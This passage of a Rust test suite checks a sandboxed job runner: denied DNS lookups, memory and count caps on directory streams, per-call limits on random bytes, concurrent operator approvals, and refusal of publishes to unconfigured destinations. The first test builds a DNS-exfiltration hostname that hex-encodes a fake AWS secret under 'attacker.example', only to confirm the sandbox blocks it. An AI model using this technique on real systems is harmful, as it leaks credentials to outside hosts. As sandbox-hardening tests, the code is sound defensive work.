    let exfil = format!("{}.exfil.attacker.example", hex::encode("AWS_SECRET=hunter2"));
    let r = w.step(
        "dns",
        "net",
        json!({"resolve": [exfil.clone(), "localhost", "LOCALHOST.", "127.0.0.1", "example.com"], "connect": [format!("localhost:{port}")]}),
        "{}",
    );
    let obs = observed_step(&r);
    let resolved: BTreeMap<String, bool> = obs["resolve"]
        .as_array()
        .expect("resolve")
        .iter()
        .map(|i| (i["host"].as_str().expect("host").to_string(), i["result"]["ok"] == true))
        .collect();
    assert!(!resolved[&exfil], "{obs}");
    assert!(!resolved["example.com"], "{obs}");
    assert!(
        resolved["localhost"] && resolved["LOCALHOST."] && resolved["127.0.0.1"],
        "granted names and literals resolve: {obs}"
    );
    assert_eq!(obs["connect"][0]["result"]["ok"], true, "the granted host is reachable by name: {obs}");
    let denied: Vec<String> = runs::read_events(&r.run_dir)
        .into_iter()
        .filter(|e| e["type"] == "capability_denied")
        .filter_map(|e| e["target"].as_str().map(str::to_string))
        .collect();
    for name in [&exfil, "example.com"] {
        assert!(denied.iter().any(|t| t.contains(name) && t.starts_with("name lookup")), "{name}: {denied:?}");
    }
    w.assert_echo_still_works();
}

#[test]
fn outside_7_directory_streams_are_capped_and_charged_to_the_step() {
    let _g = guard("directory streams", 6 * GIB, Duration::from_secs(300));
    let w = World::new();
    let big = w.root.join("ws/big");
    std::fs::create_dir_all(&big).expect("mkdir");
    for i in 0..5000 {
        std::fs::write(big.join(format!("{i:05}-{}", "n".repeat(194))), "").expect("file");
    }
    // 200 streams of a 5,000-entry directory with 200-byte names: ~1.2 MB
    // of host memory each, ~240 MB in all, under a 16 MiB guest limit.
    let r = w.step("dirs", "dir_streams", json!({"dir": "/workspace/big", "count": 200}), "{ memory_mb: 16 }");
    let obs = observed_step(&r);
    let opened = obs["opened"].as_u64().expect("opened");
    assert!(opened >= 1, "one listing fits: {obs}");
    assert!(opened < 20, "the host buffers are charged to the 16 MiB limit: {obs}");
    assert!(obs["error"].as_str().is_some_and(|e| !e.is_empty()), "the guest sees an I/O error: {obs}");
    // Streams given back are charged no more: a second run gets as many.
    let again = observed_step(&w.step("dirs2", "dir_streams", json!({"dir": "/workspace/big", "count": 200}), "{ memory_mb: 16 }"));
    assert_eq!(again["opened"], obs["opened"]);
    // Without a memory pressure the count cap (64 streams) holds.
    let small = observed_step(&w.step("dirs3", "dir_streams", json!({"dir": "/workspace/sub", "count": 200}), "{}"));
    assert_eq!(small["opened"], 64, "{small}");
    w.assert_echo_still_works();
}

#[test]
fn outside_8_random_bytes_are_bounded_per_call() {
    let _g = guard("random bytes", 6 * GIB, Duration::from_secs(300));
    let w = World::new();
    let ok = observed_step(&w.step("rand-ok", "random", json!({"bytes": 4096}), "{}"));
    assert_eq!(ok["got"], 4096);
    let started = Instant::now();
    let r = w.step("rand-big", "random", json!({"bytes": 64u64 << 20}), "{ timeout_seconds: 2 }");
    assert_eq!(r.receipt.status, RunStatus::Failed);
    let step = step_record(&r, "step:hostile.v1");
    assert_eq!(step["cause"]["kind"], "trap", "{step}");
    assert!(started.elapsed() < Duration::from_secs(10), "{:?}", started.elapsed());
    w.assert_echo_still_works();
}

// ---------------------------------------------------------------------------
// The run store has one writer (issue 14): approvals decided from other
// processes or threads go through it, so no update is lost and `seq` stays
// one counter per run.

/// `seq` of every event of a run, checked to be 1..=n.
fn assert_seq_is_one_counter(run_dir: &Path) {
    let seqs: Vec<u64> = runs::read_events(run_dir).iter().map(|e| e["seq"].as_u64().expect("seq")).collect();
    assert_eq!(seqs, (1..=seqs.len() as u64).collect::<Vec<_>>(), "events of {}", run_dir.display());
}

#[test]
fn two_concurrent_approvals_of_one_run_lose_no_update_and_share_one_seq() {
    let w = World::new();
    for round in 0..12 {
        let paths = json!([format!("race/{round}/a.md"), format!("race/{round}/b.md")]);
        let r = w.council(&format!("race-{round}"), "propose", json!({"paths": paths, "content": "x"}), "{}");
        assert_council_contained(&r, "ok");
        let ids: Vec<String> = r
            .receipt
            .approvals_requested
            .iter()
            .map(json)
            .map(|a| a["id"].as_str().expect("id").to_string())
            .collect();
        assert_eq!(ids.len(), 2);
        let barrier = Arc::new(std::sync::Barrier::new(2));
        let handles: Vec<_> = ids
            .iter()
            .map(|id| {
                let (root, id, barrier) = (w.lily.root.clone(), id.clone(), barrier.clone());
                std::thread::spawn(move || {
                    barrier.wait();
                    approvals::approve(&root, &id, false)
                })
            })
            .collect();
        for h in handles {
            let d = h.join().expect("thread").expect("approved");
            assert!(!d.message.contains("not recorded"), "{}", d.message);
        }
        let on_disk = runs::read_receipt(&r.run_dir).expect("receipt");
        for a in on_disk.approvals_requested.iter().map(json) {
            assert_eq!(a["state"], "applied", "round {round}: no decision lost: {:?}", on_disk.approvals_requested);
        }
        assert_seq_is_one_counter(&r.run_dir);
        let applied = runs::read_events(&r.run_dir)
            .iter()
            .filter(|e| e["type"] == "approval_applied" && e["by"] == "operator")
            .count();
        assert_eq!(applied, 2, "round {round}");
    }
}

#[test]
fn an_approval_decided_while_its_run_is_still_going_survives_the_runs_final_receipt() {
    let w = World::new();
    let input = json!({"topic": "propose", "context": [json!({"paths": ["early/a.md"], "content": "x"}).to_string()]});
    w.write_job(
        "early",
        &format!(
            "id: early\ntitle: early\ntarget:\n  kind: blueprint\n  id: council.v1\n  input: {input}\nbindings:\n  specialists: [hostile.v1, security.v1]\n  synthesizer: default.v1\n  workspace: ws\ntrigger: {{ type: manual }}\nruntime: {{}}\noutput: {{}}\n"
        ),
    );
    // The operator approves between the proposal and the run's commit: the
    // run has recorded its requests and emitted `job_completed`, and has not
    // yet written its final receipt.
    let root = w.lily.root.clone();
    let decided = Arc::new(std::sync::Mutex::new(Vec::new()));
    let seen = decided.clone();
    let observer = move |kind: &str, _: &Value| {
        if kind == "job_completed" {
            for req in approvals::list(&root, Some("early"))
                .into_iter()
                .filter(|r| r.state == approvals::State::Pending)
            {
                let d = approvals::approve(&root, &req.id, false).expect("approve");
                seen.lock().expect("lock").push(d.id);
            }
        }
    };
    let r =
        w.rt.block_on(w.lily.run_job(
            "early",
            RunOptions {
                observer: Some(Box::new(observer)),
                ..RunOptions::default()
            },
        ))
        .expect("run");
    assert_eq!(decided.lock().expect("lock").len(), 1, "the observer approved the request");
    assert_eq!(
        json(&r.receipt.approvals_requested[0])["state"],
        "applied",
        "{:?}",
        r.receipt.approvals_requested
    );
    let on_disk = runs::read_receipt(&r.run_dir).expect("receipt");
    assert_eq!(json(&on_disk.approvals_requested[0])["state"], "applied", "the final receipt kept the decision");
    assert_seq_is_one_counter(&r.run_dir);
    let summary = std::fs::read_to_string(r.run_dir.join("summary.md")).expect("summary");
    assert!(summary.contains("— applied:"), "{summary}");
    assert_eq!(std::fs::read_to_string(w.root.join("early/a.md")).expect("applied"), "x");
}

#[test]
fn a_publish_to_a_destination_nobody_configured_is_refused_at_proposal_and_never_applied() {
    let w = World::new();
    let r = w.council(
        "publish",
        "propose",
        json!({"paths": [], "flood_bytes": 10, "flood_count": 1, "flood_kind": "publish"}),
        "{}",
    );
    assert_council_contained(&r, "ok");
    let id = r.receipt.approvals_requested[0].id.clone();
    assert_eq!(json(&r.receipt.approvals_requested[0])["kind"], "publish");
    let req = approvals::load(&w.lily.root, &id).expect("request");
    assert_eq!(req.state, approvals::State::Denied, "refused when proposed, never `applied`");
    assert!(req.decided_by.contains("unknown destination"), "{}", req.decided_by);
    let e = approvals::approve(&w.lily.root, &id, false).expect_err("nothing can be delivered");
    assert_eq!(e.code(), ErrorCode::JobPolicyDenied);
    assert!(!runs::read_events(&r.run_dir).iter().any(|ev| ev["type"] == "approval_applied"));
}
